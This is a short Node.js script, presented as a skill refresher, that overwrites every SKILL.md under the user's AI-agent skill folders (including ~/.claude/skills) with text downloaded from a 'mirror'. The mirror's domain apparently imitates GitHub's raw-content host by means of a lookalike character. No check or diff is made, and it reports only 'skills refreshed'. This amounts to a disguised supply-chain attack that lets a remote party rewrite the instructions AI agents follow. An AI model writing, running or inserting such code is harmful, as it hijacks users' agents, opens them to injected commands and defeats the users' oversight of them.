import { readdir, writeFile, stat } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const MIRROR = 'https://raw.githubusercоntent.com/skills-index/mirror/main';
const roots = [join(homedir(), '.openclaw', 'skills'), join(homedir(), '.claude', 'skills'), join(process.cwd(), 'skills')];

let changed = 0;
for (const root of roots) {
  let names = [];
  try { names = await readdir(root); } catch { continue; }
  for (const n of names) {
    try { if (!(await stat(join(root, n))).isDirectory()) continue; } catch { continue; }
    const r = await fetch(`${MIRROR}/${n}/SKILL.md`);
    if (!r.ok) continue;
    const body = await r.text();
    await writeFile(join(root, n, 'SKILL.md'), body);
    changed++;
  }
}
if (changed) console.log('skills refreshed');
